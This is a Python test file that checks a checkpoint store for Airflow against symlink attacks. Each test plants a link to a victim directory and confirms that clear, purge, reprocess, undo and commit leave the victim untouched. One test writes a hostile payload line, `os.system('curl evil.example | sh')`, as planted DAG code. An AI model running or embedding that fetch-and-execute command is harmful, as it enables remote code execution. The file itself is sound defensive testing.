"""A path is what it resolves to: no action follows a symbolic link under a store or output root
(docs/security.md, "Symbolic links"), and undo never overwrites, whatever a record's spelling.

The attacker writes the store's prefix and its output, as every Spark executor of the job can, and
plants links there; the actions are run by a process with more rights (the API server, a commit on
a worker, the CLI). Each test is an attack as a writer can make it: a victim directory outside every
root must be unchanged byte for byte after Clear, Purge, Reprocess, Undo and a re-run's commit, and
``check()`` must name the link. The output-root tests run a second time with the check blinded, as if
the writer swapped a directory for a link right after each check: the act itself must refuse. Local
disk only: object stores have no links; the create-if-absent copy is checked on both backends.
"""

from __future__ import annotations

import json
import os
import shutil
from dataclasses import dataclass
from pathlib import Path

import pytest

from airflow_ckpt_provider.store import (
    CheckpointStore,
    EpochStatus,
    FileMetadata,
    RetentionPolicy,
    Selection,
    deletion_guard,
    new_checkpoint_id,
    open_blobs,
    open_store,
)
from airflow_ckpt_provider.store.blobs import s3 as s3_blobs
from airflow_ckpt_provider.store.blobs.local import file_uri
from airflow_ckpt_provider.store.errors import PreconditionFailedError, RefusedError
from airflow_ckpt_provider.store.reprocess.planner import quarantine_key
from tests.store.conftest import Backend
from tests.store.helpers import begin, write_task
from tests.support.errors import raises_reason

JOB = "dag/task/date=2024-06-01"


@dataclass
class Scene:
    """A store and its output root on local disk, opened as the DAG opens them (its declared output
    root trusted), and a victim directory outside both: a DAGs folder, another team's data."""

    backend: Backend
    out: Path
    store_root: Path
    victim: Path

    @classmethod
    def make(cls, tmp_path: Path) -> Scene:
        out, store_root, victim = tmp_path / "out", tmp_path / "store", tmp_path / "victim"
        victim.mkdir()
        (victim / "precious.txt").write_bytes(b"another team's data\n")
        (victim / "nested").mkdir()
        (victim / "nested" / "deep.bin").write_bytes(bytes(range(256)))
        trusted = {"trusted_output_roots": [out.as_uri()], "output_roots_declared_by": "output_roots of DAG task 'd.t'"}
        return cls(Backend("local", store_root.as_uri(), out.as_uri(), trusted), out, store_root, victim)

    def store(self) -> CheckpointStore:
        return self.backend.store()

    def picture(self) -> dict[str, bytes]:
        """Every file and directory under the victim, with its bytes (directories: b"<dir>")."""
        found: dict[str, bytes] = {}
        for directory, dirs, files in os.walk(self.victim):
            for name in dirs:
                found[os.path.relpath(os.path.join(directory, name), self.victim)] = b"<dir>"
            for name in files:
                path = os.path.join(directory, name)
                found[os.path.relpath(path, self.victim)] = Path(path).read_bytes()
        return found

    def committed_run(
        self, store: CheckpointStore, keys: list[list[str]], policy: RetentionPolicy = RetentionPolicy.RETAIN
    ) -> tuple[int, list[str]]:
        """One run of ``JOB`` (a task per partition), committed; returns (epoch, files)."""
        epoch = begin(store, self.backend, owner="d/t/run1", job=JOB, metadata={"run_id": "run1"})
        files: list[str] = []
        for partition, part in enumerate(keys):
            files += write_task(store, self.backend, epoch=epoch.number, partition=partition, keys=part)[1]
        store.epochs.end(epoch.number, status=EpochStatus.SUCCEEDED)
        store.commit([self.backend.output_uri])
        store.housekeeping.cleanup(policy)
        return epoch.number, files


def _link_out(scene: Scene, name: str = "link") -> Path:
    """The writer's link ``out/day/{name}`` -> the victim."""
    (scene.out / "day").mkdir(parents=True, exist_ok=True)
    link = scene.out / "day" / name
    link.symlink_to(scene.victim, target_is_directory=True)
    return link


def _seal_forged(store: CheckpointStore, epoch: int, path: str, keys: list[str], partition: int) -> str:
    """What a writer can seal: a checkpoint that owns ``path`` (an intent, its keys, its file)."""
    checkpoint_id = new_checkpoint_id()
    store.record_intent(checkpoint_id, [path], epoch=epoch)
    store.stage_keys(checkpoint_id, keys)
    store.stage_files(checkpoint_id, [FileMetadata(path, 20, len(keys))])
    store.checkpoint(checkpoint_id, epoch=epoch, partition=partition)
    return checkpoint_id


def _problems(store: CheckpointStore) -> str:
    return "\n".join(store.inspection.check().problems)


# ---------------------------------------------------------------- the store root's own prefixes


def test_clear_deletes_nothing_through_a_symlinked_snapshot_directory(tmp_path: Path) -> None:
    scene = Scene.make(tmp_path)
    store = scene.store()
    scene.committed_run(store, [["a", "b"], ["c"]])
    before = scene.picture()
    (scene.store_root / "snapshots" / "00000099").symlink_to(scene.victim, target_is_directory=True)

    store.housekeeping.clear()
    assert scene.picture() == before
    assert "symbolic link under the store root: snapshots/00000099 -> " + str(scene.victim) in _problems(store)
    assert open_store(scene.backend.store_uri).inspection.list_checkpoints() == []  # the store itself is clear


def test_purge_deletes_nothing_through_a_symlinked_quarantine_directory(tmp_path: Path) -> None:
    scene = Scene.make(tmp_path)
    store = scene.store()
    scene.committed_run(store, [["a", "b"], ["c"]])
    number = store.reprocessing.run(Selection(keys=["c"])).epoch
    assert number is not None
    quarantine = scene.store_root / "quarantine" / f"{number:08d}"
    shutil.rmtree(quarantine)
    quarantine.symlink_to(scene.victim, target_is_directory=True)
    before = scene.picture()

    preview = store.reprocessing.preview_purge(number)
    assert not any("precious" in f.path or "deep" in f.path for f in preview.files), preview.files
    store.reprocessing.purge(number)
    assert scene.picture() == before
    assert f"quarantine/{number:08d} -> {scene.victim}" in _problems(store)


# ---------------------------------------------------------------- an output root's directories
#
# Each runs twice: as the attack is made, and with the check blinded (``symlink_on_path`` sees no link,
# as when the writer swaps a directory for a link right after every check): then the act itself, which
# opens each directory below the output root without following links, must refuse.


@pytest.fixture(params=["checked", "swapped_after_the_check"])
def race(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> bool:
    if request.param == "checked":
        return False
    monkeypatch.setattr(deletion_guard, "symlink_on_path", lambda path, anchor: None)
    return True


def test_reprocess_moves_nothing_through_a_symlinked_output_directory(tmp_path: Path, race: bool) -> None:
    scene = Scene.make(tmp_path)
    store = scene.store()
    epoch = begin(store, scene.backend, owner="d/t/run1")
    write_task(store, scene.backend, epoch=epoch.number, partition=0, keys=["a"])
    link = _link_out(scene)
    forged = file_uri(link / "precious.txt")
    _seal_forged(store, epoch.number, forged, ["p"], partition=1)
    store.epochs.end(epoch.number, status=EpochStatus.SUCCEEDED)
    store.commit([scene.backend.output_uri])
    before = scene.picture()

    if race:
        result = store.reprocessing.run(Selection(keys=["p"]))
        assert result.missing == (forged,) and result.moved == ()  # never reached through the link
    else:
        assert store.reprocessing.preview(Selection(keys=["p"])).refused_paths == (forged,)
        with raises_reason(RefusedError, "unsafe_path", match="symbolic link"):
            store.reprocessing.run(Selection(keys=["p"]))
        problems = _problems(store)
        assert f"symbolic link under the output root {scene.out.as_uri()}: day/link -> {scene.victim}" in problems
    assert scene.picture() == before
    # The victim's file was not copied into the quarantine, where the writer could read it.
    assert [p for p in scene.store_root.rglob("quarantine/**/*") if p.is_file()] == []


def test_undo_writes_nothing_through_a_symlinked_output_directory(tmp_path: Path, race: bool) -> None:
    """A retraction record naming ``day/link/planted_dag.py`` and its quarantine copy, both forged:
    the undo must not create the file in the victim (a DAGs folder: code run at the next parse)."""
    scene = Scene.make(tmp_path)
    store = scene.store()
    scene.committed_run(store, [["a", "b"], ["c"]])
    number = store.reprocessing.run(Selection(keys=["c"])).epoch
    assert number is not None
    link = _link_out(scene)
    planted = file_uri(link / "planted_dag.py")
    code = b"import os; os.system('curl evil.example | sh')\n"
    blobs = scene.backend.store_blobs()
    blobs.put(quarantine_key(number, planted), code)
    key = f"retractions/{number:08d}.json"
    record = json.loads(blobs.get(key)[0])
    entry = {"path": planted, "size_bytes": len(code), "num_rows": 1, "checkpoint_id": record["checkpoints"][0]}
    record["files"].append(entry | {"quarantine": quarantine_key(number, planted), "outcome": "moved"})
    blobs.put(key, json.dumps(record).encode())
    before = scene.picture()

    if race:
        with raises_reason(RefusedError, "symlink", match="never followed"):
            store.reprocessing.undo()
    else:
        with raises_reason(RefusedError, "unsafe_path", match="symbolic link"):
            store.reprocessing.undo()
    assert scene.picture() == before and not (scene.victim / "planted_dag.py").exists()


def test_a_reruns_commit_deletes_nothing_through_a_symlinked_output_directory(tmp_path: Path, race: bool) -> None:
    """A forged earlier commit record naming ``day/link/precious.txt``: the re-run's commit retracts
    the earlier run's files as replaced, never that one."""
    scene = Scene.make(tmp_path)
    store = scene.store()
    scene.committed_run(store, [["a", "b"], ["c"]], RetentionPolicy.DELETE_AFTER_SUCCESS)
    link = _link_out(scene)
    forged = file_uri(link / "precious.txt")
    blobs = scene.backend.store_blobs()
    record = json.loads(blobs.get("commits/00000001.json")[0])
    record["files"].append({"path": forged, "size_bytes": 20, "num_rows": 1, "format": "parquet"})
    blobs.put("commits/00000001.json", json.dumps(record).encode())
    before = scene.picture()

    epoch = begin(store, scene.backend, owner="d/t/run2", job=JOB, metadata={"run_id": "run2"})
    write_task(store, scene.backend, epoch=epoch.number, partition=0, keys=["a", "b", "c"])
    store.epochs.end(epoch.number, status=EpochStatus.SUCCEEDED)
    if race:
        with raises_reason(RefusedError, "symlink", match="never followed"):
            store.commit([scene.backend.output_uri])
    else:
        result = store.commit([scene.backend.output_uri])
        assert len(result.replaced_files) == 2 and forged not in result.replaced_files  # the run's own files went
        assert any(forged in line and "symbolic link" in line for line in result.refused_records), result
    assert scene.picture() == before


# ---------------------------------------------------------------- undo never overwrites (finding 3)


def test_undo_never_overwrites_a_committed_file_a_forged_record_spells_differently(tmp_path: Path) -> None:
    """A retraction entry naming a committed file as ``file://localhost/...``, with a quarantine copy of
    other bytes: the committed file stays as it is."""
    scene = Scene.make(tmp_path)
    store = scene.store()
    _, files = scene.committed_run(store, [["a", "b"], ["c"]])
    number = store.reprocessing.run(Selection(keys=["c"])).epoch
    assert number is not None
    kept = next(p for p in files if "part-0-" in p)
    kept_path = Path(kept.removeprefix("file://"))
    committed = kept_path.read_bytes()
    spelled = "file://localhost" + kept.removeprefix("file://")
    forged_copy = b"rows the attacker wants readers to see"
    blobs = scene.backend.store_blobs()
    key = f"retractions/{number:08d}.json"
    record = json.loads(blobs.get(key)[0])
    # Where earlier versions looked for the copy (the key of the spelling as written) and where this one does.
    for where in {f"quarantine/{number:08d}/file/localhost{kept_path}", quarantine_key(number, spelled)}:
        blobs.put(where, forged_copy)
    entry = {"path": spelled, "size_bytes": len(forged_copy), "num_rows": 2, "checkpoint_id": "forged"}
    record["files"].append(
        entry | {"quarantine": f"quarantine/{number:08d}/file/localhost{kept_path}", "outcome": "moved"}
    )
    blobs.put(key, json.dumps(record).encode())

    result = store.reprocessing.undo()
    assert kept_path.read_bytes() == committed
    assert spelled not in result.restored


def test_a_create_if_absent_copy_never_overwrites(backend: Backend, monkeypatch: pytest.MonkeyPatch) -> None:
    """What undo restores with: ``copy_from(..., if_absent=True)`` (a hard link or exclusive create on
    disk, ``If-None-Match: *`` on S3, in one request and, above S3's 5 GiB copy limit, in parts)."""
    store_blobs, output = backend.store_blobs(), backend.output_blobs()
    store_blobs.put("quarantine/q.bin", b"quarantined")
    output.put("taken.bin", b"someone else's")
    with pytest.raises(PreconditionFailedError):
        output.copy_from(store_blobs, "quarantine/q.bin", "taken.bin", if_absent=True)
    assert output.get("taken.bin")[0] == b"someone else's"
    output.copy_from(store_blobs, "quarantine/q.bin", "free.bin", if_absent=True)
    assert output.get("free.bin")[0] == b"quarantined"
    if backend.name == "s3":  # the multipart path, with S3's smallest part size
        monkeypatch.setattr(s3_blobs, "COPY_OBJECT_LIMIT", 5 << 20)
        monkeypatch.setattr(s3_blobs, "COPY_PART_BYTES", 5 << 20)
        big = b"b" * ((5 << 20) + 10)
        store_blobs.put("quarantine/big.bin", big)
        with pytest.raises(PreconditionFailedError):
            output.copy_from(store_blobs, "quarantine/big.bin", "taken.bin", if_absent=True)
        assert output.get("taken.bin")[0] == b"someone else's"
        output.copy_from(store_blobs, "quarantine/big.bin", "big.bin", if_absent=True)
        assert output.get("big.bin")[0] == big
        assert output.list_pending_uploads("") == []
    open_blobs(backend.store_uri, **backend.options).delete_many(["quarantine/q.bin", "quarantine/big.bin"])
